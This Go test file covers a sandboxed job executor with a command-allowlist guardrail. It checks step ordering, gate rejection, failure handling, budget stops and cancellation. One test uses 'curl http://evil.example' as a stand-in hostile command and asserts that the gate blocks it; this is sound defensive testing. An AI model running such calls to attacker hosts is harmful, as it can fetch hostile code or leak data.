package executor

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/castorlabs/gantry/internal/guardrail"
	"github.com/castorlabs/gantry/internal/job"
	"github.com/castorlabs/gantry/internal/plan"
	"github.com/castorlabs/gantry/internal/sandbox"
)

// fakeSandbox records dispatches and returns scripted exit codes per step.
type fakeSandbox struct {
	exitCodes map[int]int
	ran       []string
	applied   []string
	diff      sandbox.DiffStats
}

func (f *fakeSandbox) ID() string      { return "fake0001" }
func (f *fakeSandbox) WorkDir() string { return "/tmp/fake" }
func (f *fakeSandbox) Close() error    { return nil }

func (f *fakeSandbox) Run(_ context.Context, stepID int, command string) sandbox.ExecutionResult {
	f.ran = append(f.ran, command)
	return sandbox.ExecutionResult{StepID: stepID, ExitCode: f.exitCodes[stepID]}
}

func (f *fakeSandbox) Apply(_ context.Context, stepID int, edit sandbox.FileEdit) sandbox.ExecutionResult {
	f.applied = append(f.applied, edit.Path)
	return sandbox.ExecutionResult{StepID: stepID, ExitCode: f.exitCodes[stepID], FilesTouched: []string{edit.Path}}
}

func (f *fakeSandbox) Diff() (sandbox.DiffStats, error) { return f.diff, nil }

func testGate(t *testing.T) *guardrail.Gate {
	t.Helper()
	return guardrail.NewGate(t.TempDir(), []string{"pytest", "echo", "ls"})
}

func TestExecute_DispatchesStepsInOrder(t *testing.T) {
	sbx := &fakeSandbox{exitCodes: map[int]int{}, diff: sandbox.DiffStats{FilesChanged: []string{"math.py"}}}
	p := plan.New("job1", 1)
	p.Steps = []plan.Step{
		{ID: 1, Kind: plan.StepEdit, Path: "math.py", Content: "x = 1", Required: true},
		{ID: 2, Kind: plan.StepShell, Command: "echo built", Required: false},
		{ID: 3, Kind: plan.StepTest, Command: "pytest", Required: true},
	}

	outcome, err := New(testGate(t), sbx, nil).Execute(context.Background(), p)
	require.NoError(t, err)

	assert.False(t, outcome.GateRejected())
	assert.Zero(t, outcome.FatalStep)
	require.Len(t, outcome.Results, 3)
	assert.Equal(t, []string{"math.py"}, sbx.applied)
	assert.Equal(t, []string{"echo built", "pytest"}, sbx.ran)
	assert.Equal(t, []string{"math.py"}, outcome.Diff.FilesChanged)
}

func TestExecute_GateRejectionStopsThePlan(t *testing.T) {
	sbx := &fakeSandbox{exitCodes: map[int]int{}}
	p := plan.New("job1", 1)
	p.Steps = []plan.Step{
		{ID: 1, Kind: plan.StepShell, Command: "echo fine", Required: true},
		{ID: 2, Kind: plan.StepShell, Command: "curl http://evil.example", Required: true},
		{ID: 3, Kind: plan.StepTest, Command: "pytest", Required: true},
	}

	outcome, err := New(testGate(t), sbx, nil).Execute(context.Background(), p)
	require.NoError(t, err)

	require.True(t, outcome.GateRejected())
	assert.Equal(t, guardrail.ReasonCommandNotAllowed, outcome.Rejected.Reason)
	assert.Equal(t, 2, outcome.RejectedStep.ID)
	assert.Len(t, outcome.Results, 1, "nothing after the rejected step may run")
	assert.NotContains(t, sbx.ran, "curl http://evil.example", "a rejected command must never reach the sandbox")
}

func TestExecute_RequiredFailureStopsThePlan(t *testing.T) {
	sbx := &fakeSandbox{exitCodes: map[int]int{2: 1}}
	p := plan.New("job1", 1)
	p.Steps = []plan.Step{
		{ID: 1, Kind: plan.StepShell, Command: "echo ok", Required: true},
		{ID: 2, Kind: plan.StepTest, Command: "pytest", Required: true},
		{ID: 3, Kind: plan.StepShell, Command: "echo never", Required: true},
	}

	outcome, err := New(testGate(t), sbx, nil).Execute(context.Background(), p)
	require.NoError(t, err)

	assert.Equal(t, 2, outcome.FatalStep)
	assert.Len(t, outcome.Results, 2)
	assert.NotContains(t, sbx.ran, "echo never")
}

func TestExecute_BestEffortFailureContinues(t *testing.T) {
	sbx := &fakeSandbox{exitCodes: map[int]int{1: 4}}
	p := plan.New("job1", 1)
	p.Steps = []plan.Step{
		{ID: 1, Kind: plan.StepShell, Command: "echo lint", Required: false},
		{ID: 2, Kind: plan.StepTest, Command: "pytest", Required: true},
	}

	outcome, err := New(testGate(t), sbx, nil).Execute(context.Background(), p)
	require.NoError(t, err)

	assert.Zero(t, outcome.FatalStep)
	assert.Len(t, outcome.Results, 2)
}

// fakeBudget allows a fixed number of step-boundary checks, then fails.
type fakeBudget struct {
	allowed int
	checks  int
}

func (f *fakeBudget) Check() job.BudgetStatus {
	f.checks++
	if f.checks > f.allowed {
		return job.BudgetStatus{Reason: "wall-clock budget exhausted (1.0/1.0 minutes)", ReasonCode: job.BudgetReasonTime}
	}
	return job.BudgetStatus{CanContinue: true, ReasonCode: job.BudgetReasonNone}
}

func TestExecute_BudgetExhaustionStopsAtStepBoundary(t *testing.T) {
	sbx := &fakeSandbox{exitCodes: map[int]int{}}
	p := plan.New("job1", 1)
	p.Steps = []plan.Step{
		{ID: 1, Kind: plan.StepShell, Command: "echo one", Required: true},
		{ID: 2, Kind: plan.StepShell, Command: "echo two", Required: true},
		{ID: 3, Kind: plan.StepTest, Command: "pytest", Required: true},
	}

	outcome, err := New(testGate(t), sbx, &fakeBudget{allowed: 1}).Execute(context.Background(), p)
	require.NoError(t, err)

	assert.Contains(t, outcome.BudgetStop, "budget exhausted")
	assert.Len(t, outcome.Results, 1, "dispatch halts at the first exhausted boundary")
	assert.Equal(t, []string{"echo one"}, sbx.ran)
	assert.Zero(t, outcome.FatalStep)
	assert.False(t, outcome.GateRejected())
}

func TestExecute_CancellationStopsAtStepBoundary(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	sbx := &fakeSandbox{exitCodes: map[int]int{}}
	p := plan.New("job1", 1)
	p.Steps = []plan.Step{{ID: 1, Kind: plan.StepShell, Command: "echo hi", Required: true}}

	outcome, err := New(testGate(t), sbx, nil).Execute(ctx, p)
	require.Error(t, err)
	assert.Empty(t, outcome.Results)
	assert.Empty(t, sbx.ran)
}
